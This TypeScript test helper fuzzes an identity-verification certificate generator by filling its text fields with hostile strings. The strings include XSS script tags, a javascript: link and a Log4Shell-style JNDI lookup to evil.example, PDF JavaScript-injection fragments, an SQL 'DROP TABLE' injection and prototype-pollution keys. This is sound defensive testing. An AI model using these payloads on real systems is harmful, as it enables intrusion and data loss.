import type { Random } from '../../src/kernel/random.ts';
import type { Statement } from '../../src/certificate/statement.ts';

/** What people, browsers and documents might put where a text is expected. */
const TEXTS: readonly string[] = [
  '',
  'José Ñandú Güell',
  '<script>app.alert(1)</script>',
  '<a href="https://evil.example/">pulse aquí</a>',
  'javascript:app.launchURL("https://evil.example/")',
  'https://evil.example/?a=1&b=2',
  '(\\) /S /JavaScript /JS (app.alert\\(1\\)) >> endobj 1 0 obj << /OpenAction',
  'endstream endobj %%EOF xref startxref 0',
  '/ByteRange [0 1 2 3] /Contents <00>',
  '{"cotejoParts":[["page 1",0,1,"00"]]}',
  '\u202Egnorw si siht\u202C \u2066isolate\u2069 \u200Fright',
  '\u0000\u0001\u0007\u001b[31mred\u001b[0m\r\n\t\u007f\u0085',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b',
  '王小明 Αλέξανδρος Дмитрий עברית العربية',
  '👩‍👩‍👧‍👦 🇪🇸 \u{1F600}',
  '\ufeff\u200b\u2060zero\u200dwidth\ufe0f',
  '\ud800 lone',
  "'; DROP TABLE verification; --",
  '${jndi:ldap://evil.example/a} {{7*7}} %s%n {name} {url}',
  '__proto__',
  'constructor',
  'x'.repeat(2000),
  'Maximiliana de las Mercedes '.repeat(60),
  'ﷺ'.repeat(40),
  '\u2028\u2029line',
];

/** A statement with hostile texts in every place that holds a text of somebody else's, and random figures. */
export function hostileStatement(base: Statement, random: Random): Statement {
  const integer = (from: number, to: number): number => from + Math.floor(random() * (to - from + 1));
  const pick = <Value>(values: readonly Value[]): Value => values[integer(0, values.length - 1)]!;
  const text = (most = 2000): string => {
    const made = random() < 0.75 ? pick(TEXTS) : pick(TEXTS) + String.fromCodePoint(integer(0, 0xd7ff)) + pick(TEXTS);
    return made.slice(0, most).toWellFormed();
  };
  const some = (): boolean => random() < 0.5;
  const ruling: Statement['ruling'] = some()
    ? base.ruling
    : { by: 'person', at: base.ruling.at, role: text(), operator: text(), remark: some() ? text() : null };
  return {
    ...base,
    id: integer(1, 2_147_483_647),
    language: pick(['es', 'en'] as const),
    isTest: some(),
    issuer: { ...base.issuer, checkUrl: some() ? base.issuer.checkUrl : null, isDemonstration: some(), signer: text() },
    askedBy: { ...base.askedBy, name: text() },
    request: { ...base.request, requestedNumber: some() ? text() : null, reference: some() ? text() : null },
    ruling,
    outcome: {
      ...base.outcome,
      similarityPercent: some() ? random() * 100 : null,
      samePersonThroughout: some() ? some() : null,
    },
    document:
      base.document === null || random() < 0.1
        ? null
        : {
            ...base.document,
            type: some() ? text() : base.document.type,
            issuingState: some() ? text() : null,
            fields: [
              ...base.document.fields.map((field) => ({ ...field, text: text() })),
              ...Array.from({ length: integer(0, 6) }, () => ({
                name: text(100),
                text: text(),
                from: pick(['mrz', 'viz', 'barcode'] as const),
                folded: some(),
              })),
            ],
          },
    device: some() ? { browser: text(), system: text(), display: text() } : null,
    place: pick([null, 'declined' as const, base.place]),
    consent: some() ? { textVersion: text(), language: text(20) } : null,
    findings: base.findings.map((finding) => ({
      ...finding,
      details: { seen: text(), list: [text(), 1, null] },
    })),
    evidence: {
      ...base.evidence,
      items: base.evidence.items.map((item) => ({
        ...item,
        kind: some() ? text(100) : item.kind,
        mediaType: text(100),
      })),
    },
  };
}
